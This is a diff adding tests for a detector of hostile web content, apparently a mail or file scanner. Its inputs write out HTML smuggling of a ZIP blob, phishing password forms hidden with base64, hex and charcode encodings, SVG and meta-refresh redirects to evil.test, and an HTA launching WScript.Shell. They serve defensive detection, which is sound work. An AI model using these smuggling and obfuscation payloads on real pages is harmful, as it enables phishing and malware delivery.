@@ -1,0 +1,78 @@
+from base64 import b64encode
+from urllib.parse import quote
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from sekisho.mime.documents import page
+
+FILE = b"PK\x03\x04" + bytes(range(256)) * 4
+INNER = b"<html><body><form action='https://evil.test/'><input type=password></form></body></html>"
+
+
+def test_a_file_built_by_script(look):
+    text = f"<script>var b=new Blob([atob('{b64encode(FILE).decode()}')]);a.href=URL.createObjectURL(b);a.download='x.zip';a.click()</script>"
+    looking = look(page.look, text, "html")
+    assert "page_smuggling" in looking.signs
+    assert FILE in [member.octets for member in looking.members]
+
+
+def test_a_file_in_pieces(look):
+    whole = b64encode(FILE).decode()
+    text = "<script>var x='" + "'+'".join(whole[place : place + 100] for place in range(0, len(whole), 100)) + "';document.write(atob(x))</script>"
+    assert [member.octets[:4] for member in look(page.look, text, "html").members] == [b"PK\x03\x04"]
+
+
+@pytest.mark.parametrize(
+    "written",
+    [
+        f"atob('{b64encode(INNER * 3).decode()}')",
+        f"unescape('{''.join(f'%{octet:02x}' for octet in INNER)}')",
+        "'" + "".join(f"\\x{octet:02x}" for octet in INNER) + "'",
+        "String.fromCharCode(" + ",".join(map(str, INNER)) + ")",
+        f"atob(atob('{b64encode(b64encode(INNER * 3)).decode()}'))",
+    ],
+)
+def test_a_page_in_a_page(look, written):
+    looking = look(page.look, f"<script>document.write({written})</script>", "html")
+    assert {"page_hidden_page", "page_password"} <= set(looking.signs)
+
+
+def test_pictures_that_run_scripts(look):
+    assert (
+        "picture_script"
+        in look(page.look, "<svg xmlns='http://www.w3.org/2000/svg'><script>location='http://evil.test/'</script></svg>", "svg").signs
+    )
+    assert "picture_script" in look(page.look, "<svg onload='x()'/>", "svg").signs
+    assert "picture_script" in look(page.look, "<svg><foreignObject><body xmlns='x'><form/></body></foreignObject></svg>", "svg").signs
+    assert look(page.look, "<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/></svg>", "svg").signs == {}
+
+
+def test_ways_on_and_programs(look):
+    assert "page_redirect" in look(page.look, "<meta http-equiv='refresh' content='0; url=https://evil.test/'>", "html").signs
+    assert "page_redirect" in look(page.look, "<script>window.location.href='https://evil.test/'</script>", "html").signs
+    assert "page_program" in look(page.look, "<hta:application id=x><script>new ActiveXObject('WScript.Shell')</script>", "hta").signs
+
+
+def test_an_ordinary_page(look):
+    picture = b64encode(b"\x89PNG\r\n\x1a\n" + bytes(500)).decode()
+    text = f"<html><body><h1>Minutes</h1><img src='data:image/png;base64,{picture}'><a href='https://www.partner.test/?q={quote('関所' * 20)}'>x</a></body></html>"
+    looking = look(page.look, text, "html")
+    assert (looking.signs, looking.members) == ({}, [])
+
+
+def test_utf_16(look):
+    assert "page_password" in look(page.look, INNER.decode().encode("utf-16"), "html").signs
+
+
+@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
+@given(st.text(max_size=300))
+def test_broken_ones_raise_nothing(look, text):
+    look(page.look, f"<script>{text}".encode("utf-8", "replace"), "html")
+
+
+def test_hostile_text_is_read_in_linear_time(look):
+    pieces = ("%41" * 30 + "\0", "A" * 64 + "!", "1," * 50, "<meta http-equiv=refresh ", "data:a;b", "<input ", "location=", "\\x41" * 20, "%4a.")
+    for piece in pieces:  # what is quadratic here takes hours
+        look(page.look, "<script>" + piece * 10_000, "html")
